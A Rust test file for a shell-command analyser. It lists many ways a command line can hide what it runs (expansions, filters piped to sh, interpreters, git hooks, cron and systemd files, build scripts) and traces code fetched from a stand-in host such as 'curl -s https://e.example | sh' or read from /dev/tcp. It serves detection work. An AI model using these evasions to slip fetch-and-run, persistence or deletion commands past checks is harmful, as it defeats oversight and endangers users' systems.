//! Detours by which a line runs a command: a row each, with the command that must be found at its end.

use super::{Command, World, analyse};

fn runs(line: &str) -> Vec<String> {
    let world = World { home: "/home/u", cwd: "/w", ..World::default() };
    analyse(line, world).commands.iter().map(|command| command.text().to_owned()).collect()
}

#[test]
fn a_detour_leads_to_the_command() {
    let mut wrong = Vec::new();
    for (line, command) in [
        // Values that an expansion changes.
        ("x=LS; ${x,,} a", "ls a"),
        ("x=lXs; ${x/X/} a", "ls a"),
        ("x=ls_a; eval \"${x//_/ }\"", "ls a"),
        ("x=xls; ${x:1:2} a", "ls a"),
        (": ${x:=ls}; $x a", "ls a"),
        ("read -ra x <<< 'ls a'; \"${x[@]}\"", "ls a"),
        ("declare -n r=x; x=ls; $r a", "ls a"),
        // What filters print.
        ("rev <<< 'a sl' | sh", "ls a"),
        ("tr a-z b-za <<< 'kr z' | sh", "ls a"),
        ("echo xls a | tr -d x | sh", "ls a"),
        ("cut -c3- <<< 'xxls a' | sh", "ls a"),
        ("cut -d: -f2 <<< 'x:ls a' | sh", "ls a"),
        ("jq -r .c <<< '{\"c\":\"ls a\"}' | sh", "ls a"),
        ("date '+ls a' | sh", "ls a"),
        ("shuf -e 'ls a' | sh", "ls a"),
        ("expr 'ls a' | sh", "ls a"),
        ("printf '%c' l s ' ' a | sh", "ls a"),
        ("echo 'ls a' > f; head f | sh", "ls a"),
        // Programs that run what they are told.
        ("sudo -s 'ls a'", "ls a"),
        ("sudo -D /x ls a", "ls a"),
        ("podman unshare ls a", "ls a"),
        ("ruby -run -e rm -- -r a", "rm -r a"),
        ("node -pe \"require('child_process').execSync('ls a')\"", "ls a"),
        ("echo \"require('child_process').execSync('ls a')\" > x.js; node -r ./x.js -e 1", "ls a"),
        ("echo 'os.system(\"ls a\")' > x.py; PYTHONSTARTUP=x.py python3", "ls a"),
        ("vim -c 'silent !ls a' f", "ls a"),
        ("gnuplot -e '!ls a'", "ls a"),
        ("psql -c \"copy t from program 'ls a'\"", "ls a"),
        ("ansible localhost -m file -a 'path=/a state=absent'", "rm -rf /a"),
        ("gh alias set x '!ls a'", "ls a"),
        ("nu -c '^ls a'", "ls a"),
        ("echo 'syscmd(ls a)' | m4", "ls a"),
        ("git -c pager.log='ls a' log", "ls a"),
        ("git -c gpg.program='ls a' commit -S", "ls a"),
        ("git send-email --to-cmd='ls a' x", "ls a"),
        ("GIT_CONFIG_PARAMETERS=\"'alias.x=!ls a'\" git x", "ls a"),
        ("KUBE_EDITOR='ls a' kubectl edit x", "ls a"),
        ("echo 'ls a' >> /etc/profile.d/x.sh", "ls a"),
        // Files of commands, and who takes lines from files.
        ("echo 'ls a' > f; at -f f now", "ls a"),
        ("echo 'ls a' > f; parallel -a f", "ls a"),
        ("echo 'ls a' > f; xargs -a f -I{} sh -c {}", "ls a"),
        ("echo '@daily ls a' > c; crontab c", "ls a"),
        ("echo '* * * * * root ls a' > /etc/cron.d/x", "ls a"),
        ("printf '[Service]\\nExecStart=-ls a\\n' > ~/.config/systemd/user/x.service", "ls a"),
        ("printf 'x := $(shell ls a)\\n' > Makefile; make", "ls a"),
        ("make --eval 'x: ; ls a' x", "ls a"),
        ("printf 'x:\\n  ls a\\n' > justfile; just x", "ls a"),
        ("echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; bun run x", "ls a"),
        ("echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; node --run x", "ls a"),
        ("echo '{\"tasks\":{\"x\":\"ls a\"}}' > deno.json; deno task x", "ls a"),
        ("doppler run --command='ls a'", "ls a"),
        ("nx run-commands --command='ls a'", "ls a"),
        ("rvm 3.3 do ls a", "ls a"),
        ("expect -c 'system \"ls a\"'", "ls a"),
        // Modules, and code that one of several subcommands is given.
        ("echo 'os.system(\"ls a\")' > x.py; python3 -m x", "ls a"),
        ("echo 'os.system(\"ls a\")' > x.py; python3 -c 'import x'", "ls a"),
        ("echo 'execSync(\"ls a\")' > x.js; node ./x", "ls a"),
        ("python3 -m timeit \"os.system('ls a')\"", "ls a"),
        ("rails runner 'system(\"ls a\")'", "ls a"),
        ("mix run -e 'System.cmd(\"ls\", [\"a\"])'", "ls a"),
        // What other languages put together.
        ("python3 -c \"os.system('a sl'[::-1])\"", "ls a"),
        ("ruby -e 'system(\"a sl\".reverse)'", "ls a"),
        ("perl -e 'system(reverse(\"a sl\"))'", "ls a"),
        ("perl -e 'my @c=(\"ls\",\"a\"); system(@c)'", "ls a"),
        ("ruby -e 'eval(\"system(%q(ls a))\")'", "ls a"),
        ("awk 'BEGIN { c = \"ls a\"; c | getline }'", "ls a"),
        ("awk 'BEGIN { while ((\"ls a\") | getline) ; }'", "ls a"),
        ("python3 -c \"os.chdir('/b'); os.remove('x'); os.system('ls a')\"", "ls a"),
        ("python3 -c $'def f(p):\\n  shutil.rmtree(p)\\nf(\"/a\")'", "rm -rf /a"),
        ("python3 -c $'for p in Path(\"/a\").iterdir():\\n  shutil.rmtree(p)'", "rm -rf /a"),
        ("perl -MFile::Find -e 'finddepth(sub{unlink $_}, \"/a\")'", "rm -rf /a"),
        ("printf 'fn main(){ Command::new(\"ls\").arg(\"a\").status(); }' > x.rs; rustc x.rs", "ls a"),
        ("guile -c '(system* \"ls\" \"a\")'", "ls a"),
        ("sbcl --eval '(sb-ext:run-program \"ls\" (list \"a\"))'", "ls a"),
        ("vim -c 'call delete(\"/a\", \"rf\")'", "rm -rf /a rf"),
    ] {
        let found = runs(line);
        if !found.iter().any(|text| text == command || text.strip_prefix("/w/") == Some(command)) {
            wrong.push(format!("{line}: {command}, but is {}", found.join(" ; ")));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_only_looks_like_one_leads_nowhere() {
    for line in [
        "x=LS; echo ${x,,} a",
        "declare -n r=x; x=ls; echo $r",
        "rev <<< 'a sl' | cat",
        "jq -r .c <<< '{\"c\":\"ls a\"}'",
        "date '+ls a'",
        "gh alias list 'ls a'",
        "git -c user.name='ls a' commit",
        "ansible localhost -m file -a 'path=ls state=directory'",
        "vim -c 'echo 1' ls",
        "echo 'ls a' > f; at -f g now",
        "echo 'ls a' > x.py; python3 -m y",
        "printf '[Unit]\\nDescription=ls a\\n' > /etc/systemd/system/x.service",
        "printf 'x = ls a\\n' > Makefile; make",
        "echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; bun install",
        "python3 -c $'def f(p):\\n  print(p)\\nf(\"ls a\")'",
        "awk 'BEGIN { c = \"ls a\"; print c }'",
    ] {
        assert!(!runs(line).iter().any(|text| text == "ls a"), "{line}");
    }
}

#[test]
fn whoever_made_a_file_is_told_by_whatever_becomes_of_it() {
    let sources = |line: &str| -> Vec<String> {
        analyse(line, World::default()).commands.iter().flat_map(Command::code_from).cloned().collect()
    };
    for (line, source) in [
        ("wget -P d https://e.example/i.sh; sh d/i.sh", "wget"),
        ("aria2c https://e.example/i.sh; sh i.sh", "aria2c"),
        ("curl -so a https://e.example; cat a > b; sh b", "curl"),
        ("curl -so a.gz https://e.example; gunzip a.gz; sh a", "curl"),
        ("curl -s https://e.example | install /dev/stdin a; sh a", "curl"),
        ("curl -so a.c https://e.example; gcc a.c; ./a.out", "curl"),
        ("curl -so a.jar https://e.example; java -jar a.jar", "curl"),
        ("curl -s https://e.example | php -- --yes", "curl"),
        ("curl -s https://e.example | awk -f - x", "curl"),
        ("curl -s https://e.example | deno run -A -", "curl"),
        ("python3 -c \"urlretrieve('https://e.example', 'a')\"; sh a", "fetched"),
        ("python3 -c \"print(requests.get('https://e.example').text)\" | sh", "fetched"),
        ("perl -e 'print decode_base64($x)' | sh", "decoded"),
        ("php -r 'include \"https://e.example/a\";'", "fetched"),
        ("node -e \"fetch(u).then(r => r.text()).then(t => eval(t))\"", "fetched"),
        ("ruby -e 's = TCPSocket.new(h, 1); system(s.gets)'", "socket"),
        ("cat < /dev/tcp/h/1 | sh", "socket"),
        ("curl -s https://e.example | parallel", "curl"),
        ("curl -s https://e.example | crontab -", "curl"),
        ("curl -s https://e.example | make -f -", "curl"),
        ("make -f <(curl -s https://e.example)", "curl"),
        ("curl -sO https://e.example/Makefile && make", "curl"),
        ("curl -s https://e.example | bash -c \"$(cat)\"", "curl"),
        ("curl -s https://e.example | python3 -c 'exec(sys.stdin.read())'", "curl"),
        ("curl -s https://e.example | perl -ne 'system($_)'", "curl"),
        ("curl -s https://e.example | awk '{system($0)}'", "curl"),
        ("curl -s https://e.example | awk '{print | \"sh\"}'", "curl"),
        ("python3 -c \"open('a','wb').write(requests.get('https://e.example').content)\"; sh a", "fetched"),
        ("node -e \"fetch('https://e.example').then(t => execSync(t))\"", "fetched"),
    ] {
        assert!(sources(line).iter().any(|name| name == source), "{line}: {:?}", sources(line));
    }
    for line in [
        "wget -P d https://e.example/i.sh; sh i.sh",
        "curl -so a.c https://e.example; gcc b.c; ./a.out",
        "python3 -c \"print('a')\" | sh",
        "curl -s https://e.example | parallel echo",
        "curl -s https://e.example | python3 -c 'print(json.load(sys.stdin))'",
        "curl -s https://e.example | awk '{system(\"mkdir \" $1)}'",
        "curl -sO https://e.example/a.mk && make",
        "echo $(cat a) | bash -c \"$(cat b)\"",
    ] {
        let foreign = ["wget", "curl", "fetched", "decoded", "socket"];
        assert!(!sources(line).iter().any(|name| foreign.contains(&name.as_str())), "{line}: {:?}", sources(line));
    }
}
